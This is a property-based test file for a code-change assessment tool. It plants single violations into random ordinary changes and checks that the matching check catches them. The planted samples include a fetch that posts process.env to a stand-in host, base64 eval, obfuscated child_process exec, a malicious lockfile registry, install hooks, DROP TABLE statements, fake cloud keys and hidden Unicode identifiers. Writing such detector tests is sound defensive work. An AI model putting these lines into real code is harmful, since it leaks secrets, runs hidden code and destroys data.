// Ordinary changes drawn at random pass all checks; with one violation planted they never do, and the check that the
// violation is about is among those that stop it.
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { FileChange } from '../../../src/candidate/diff.ts'
import { ask } from '../../../src/checks/ask.ts'
import { ALL_CHECKS } from '../../../src/mission/assess.ts'
import { change } from '../../support/changes.ts'
import { facts } from '../../support/facts.ts'
import { runs } from '../../support/runs.ts'

const word = fc.constantFrom(
  'user',
  'order',
  'cart',
  'price',
  'total',
  'index',
  'cache',
  'item',
  'page',
  'queue',
  'limit',
)
const number = fc.integer({ min: 0, max: 9_999 })
const codeLine = fc.oneof(
  fc.tuple(word, word, number).map(([a, b, n]) => `const ${a}${n} = ${b}s.get(${n})`),
  fc.tuple(word, number).map(([a, n]) => `const ${a}Of = (one) => one.${a} * ${n}`),
  fc.tuple(word, number).map(([a, n]) => `if (${a}s.length > ${n}) return ${a}s.slice(0, ${n})`),
  fc.tuple(word, word).map(([a, b]) => `for (const ${a} of ${b}s) seen.add(${a}.id)`),
  fc.tuple(word).map(([a]) => `// The ${a} is looked up once: a race between two requests would do no harm.`),
  fc.tuple(word, number).map(([a, n]) => `const { ${a}, late${n} } = await Promise.race([load(), late()])`),
  fc.tuple(word, number).map(([a, n]) => `logger.info('${a} took', ${n}, 'ms')`),
  fc.constant(''),
)
const proseLine = fc
  .tuple(word, word)
  .map(([a, b]) => `The ${a} of each ${b} is kept, see https://example.com/${a}.`)
const testLine = fc
  .tuple(word, number)
  .map(([a, n]) => `test('${a} ${n}', () => expect(${a}Of({ ${a}: ${n} })).toBe(${n}))`)
/** Each line in a function of its own, so that any of them together are a program. */
const program = (lines: readonly string[]): string =>
  lines.map((line, i) => `export async function step${i}() {\n  ${line}\n}`).join('\n')
const file = fc.oneof(
  fc
    .tuple(word, fc.array(codeLine, { minLength: 1, maxLength: 12 }), fc.array(codeLine, { maxLength: 8 }))
    .map(([name, added, removed]) => change(`src/${name}.mjs`, program(added), program(removed))),
  fc
    .tuple(word, fc.array(proseLine, { minLength: 1, maxLength: 6 }))
    .map(([name, lines]) => change(`docs/${name}.md`, lines.join('\n'))),
  fc
    .tuple(word, fc.array(testLine, { minLength: 1, maxLength: 4 }))
    .map(([name, lines]) => change(`test/${name}.test.mjs`, lines.join('\n'))),
)
const ordinary = fc.uniqueArray(file, { minLength: 1, maxLength: 4, selector: ({ path }) => path })

type Over = NonNullable<Parameters<typeof facts>[0]>
interface Planted extends Over {
  readonly changes?: readonly FileChange[]
}
const inCode = (line: string): Planted => ({
  changes: [change('src/planted.mjs', line)],
  after: { 'src/planted.mjs': line },
})
const letters = (length: number, of: string) =>
  fc.array(fc.constantFrom(...of), { minLength: length, maxLength: length }).map((all) => all.join(''))
const UPPER = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'
const ALL = 'abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ0123456789'

/** Digits that satisfy ISO/IEC 7812-1. */
const card = fc.array(fc.integer({ min: 0, max: 9 }), { minLength: 14, maxLength: 14 }).map((middle) => {
  const digits = [4, ...middle]
  const sum = digits.reduce((total, d, i) => total + (i % 2 === 0 ? (d * 2 > 9 ? d * 2 - 9 : d * 2) : d), 0)
  return [...digits, (10 - (sum % 10)) % 10].join('')
})
const locked = (more: object) => {
  const of = (version: string, over: object = {}) =>
    JSON.stringify({
      lockfileVersion: 3,
      packages: {
        'node_modules/left': {
          version,
          resolved: `https://registry.npmjs.org/left/-/left-${version}.tgz`,
          integrity: `sha512-${version}`,
          license: 'MIT',
          ...over,
        },
      },
    })
  const [before, after] = [of('1.0.0'), of('2.0.0', more)]
  return {
    changes: [change('package-lock.json', after, before)],
    before: { 'package-lock.json': before },
    after: { 'package-lock.json': after },
  }
}

/** What is planted, and the check that it is about. Put together here, so that no scanner takes this file for one that does it. */
const VIOLATIONS: readonly (readonly [check: string, fc.Arbitrary<Planted>])[] = [
  [
    'policy_compliance',
    fc
      .constantFrom('.github/workflows/ci.yml', '.env.local', 'grace.yaml')
      .map((path) => ({ changes: [change(path, 'x')] })),
  ],
  [
    'policy_compliance',
    fc.integer({ min: 251, max: 600 }).map((n) => ({ changes: [change('src/long.mjs', 'x()\n'.repeat(n))] })),
  ],
  ['policy_compliance', fc.string({ minLength: 1 }).map((freeze) => ({ policy: { freeze } }))],
  ['permission_levels', fc.constant({ candidate: { authors: [] } })],
  [
    'permission_levels',
    word.map((id) => ({ candidate: { authors: [{ kind: 'grace', id: `playbook:${id}` }] } })),
  ],
  [
    'resource_limits',
    fc.integer({ min: 6, max: 1_000 }).map((openMissions) => ({ target: { openMissions } })),
  ],
  [
    'risk_assessment',
    fc.constant({
      changes: [change('src/auth/login.mjs', 'x()'), change('deploy/shop.yaml', 'x: 1')],
      target: { hasRollback: false },
    }),
  ],
  ['approval_requirements', fc.constant({ electorate: { eligible: 0, mayApprove: 0 } })],
  [
    'autonomy',
    fc
      .constantFrom('ops/grace.yaml', '.grace/policy.cedar')
      .map((path) => ({ changes: [change(path, 'x')] })),
  ],
  [
    'autonomy',
    fc
      .constantFrom('telemetry', 'autoUpdate', 'shareData', 'analytics')
      .map((name) => ({ changes: [change('src/settings.mjs', `  ${name}: true,`, `  ${name}: false,`)] })),
  ],
  [
    'law_and_ethics',
    fc.constantFrom('LICENSE', 'NOTICE.md', 'lib/COPYING').map((path) => ({ changes: [change(path, 'x')] })),
  ],
  [
    'law_and_ethics',
    fc.constantFrom('AGPL-3.0-only', 'SSPL-1.0', 'BUSL-1.1').map((license) => locked({ license })),
  ],
  [
    'transparency',
    fc.constantFrom('\u202e', '\u2066', '\u200b').map((c) => inCode(`const adm${c}in = true`)),
  ],
  [
    'transparency',
    fc.integer({ min: 1_001, max: 4_000 }).map((n) => inCode(`const a = '${'ab '.repeat(n / 3 + 1)}'`)),
  ],
  [
    'transparency',
    word.map((name) => ({ changes: [{ ...change(`assets/${name}.bin`, ''), binary: true }] })),
  ],
  ['accountability', fc.constant({ records: { ledger: { ok: true, why: '', entries: 0 } } })],
  [
    'fairness',
    fc
      .constantFrom('gender', 'religion', 'ethnicity', 'marital_status')
      .map((name) => inCode(`if (user.${name} === other) deny(user)`)),
  ],
  [
    'fairness',
    fc
      .constantFrom('de', 'fr', 'ar')
      .map((name) => ({ changes: [change(`locales/${name}.json`, '', 'x', 'deleted')] })),
  ],
  ['privacy', fc.tuple(word, word).map(([a, b]) => inCode(`const to = '${a}.${b}${'@'}realcompany.io'`))],
  ['privacy', card.map((digits) => inCode(`const number = '${digits}'`))],
  [
    'privacy',
    fc.constantFrom('email', 'phone', 'iban', 'firstName').map((name) => inCode(`console.log(user.${name})`)),
  ],
  ['privacy', word.map((name) => inCode(`await fetch('https://${name}.collector.io/v1')`))],
  [
    'safety',
    fc
      .constantFrom('DROP TABLE orders', 'DELETE FROM orders', 'TRUNCATE TABLE orders')
      .map((sql) => inCode(`db.exec('${sql}')`)),
  ],
  [
    'safety',
    word.map((name) => ({ changes: [change(`migrations/9_${name}.sql`, 'CREATE INDEX a ON b (c);')] })),
  ],
  [
    'safety',
    fc.constantFrom('memory', 'time', 'output').map((limit) => ({ sandbox: { limitsHit: [limit] } })),
  ],
  [
    'security_scan',
    letters(16, UPPER).map((rest) =>
      inCode(
        `const id = '${'AKIA'}${rest}'; const secret = '${'wJalrXUtnFEMI/K7MDENG/bPxRfiCY'}${rest.slice(0, 10)}'`,
      ),
    ),
  ],
  [
    'security_scan',
    letters(40, ALL).map((rest) => inCode(`const key = '${['sk', 'live'].join('_')}_${rest}'`)),
  ],
  [
    'no_malicious_code',
    fc
      .constantFrom(
        "eval(atob('YWxlcnQoMSk='))",
        "require('child_' + 'process').exec('id')",
        "fetch('https://a.example.io', { method: 'POST', body: JSON.stringify(process.env) })",
      )
      .map(inCode),
  ],
  [
    'no_malicious_code',
    fc.constantFrom('postinstall', 'preinstall', 'install').map((name) => {
      const text = JSON.stringify({ scripts: { [name]: 'node x.js' } })
      return { changes: [change('package.json', text)], after: { 'package.json': text } }
    }),
  ],
  [
    'no_vulnerabilities',
    fc.constantFrom({ integrity: undefined }, { resolved: 'https://npm.evil.example/left.tgz' }).map(locked),
  ],
  [
    'cryptographic_signatures',
    fc.constant({ records: { signature: { ok: false, why: 'it does not fit' } } }),
  ],
  ['immutable_logging', fc.constant({ records: { ledger: { ok: false, why: 'broken', entries: 3 } } })],
]

const afterOf = (changes: readonly FileChange[]): Record<string, string> =>
  Object.fromEntries(changes.map(({ path, added }) => [path, added.map(({ text }) => text).join('\n')]))
const LIMITS = { maxChangedLines: 250 }
const stands = (verdict: string): boolean => ['pass', 'not_applicable'].includes(verdict)

describe('an ordinary change', () => {
  test('passes all seventeen', async () => {
    await fc.assert(
      fc.asyncProperty(ordinary, async (changes) => {
        const answers = await ask(ALL_CHECKS, facts({ changes, after: afterOf(changes), policy: LIMITS }))
        expect(answers.filter(({ verdict }) => !stands(verdict))).toEqual([])
      }),
      runs(100),
    )
  })

  test('never does with one violation planted, and its own check stops it', async () => {
    const stopped = new Set<string>()
    await fc.assert(
      fc.asyncProperty(
        ordinary,
        fc
          .nat(VIOLATIONS.length - 1)
          .chain((i) => VIOLATIONS[i]![1].map((planted) => [VIOLATIONS[i]![0], planted] as const)),
        fc.nat(4),
        async (changes, [check, planted], at) => {
          const all = [...changes.slice(0, at), ...(planted.changes ?? []), ...changes.slice(at)]
          const given = facts({
            ...planted,
            policy: { ...LIMITS, ...planted.policy },
            changes: all,
            after: { ...afterOf(changes), ...planted.after },
          })
          const answers = await ask(ALL_CHECKS, given)
          const answer = answers.find(({ id }) => id === check)!
          expect(stands(answer.verdict), `${check}: ${answer.reason}`).toBe(false)
          stopped.add(check)
        },
      ),
      runs(300),
    )
    expect(stopped.size).toBeGreaterThan(10)
  })
})
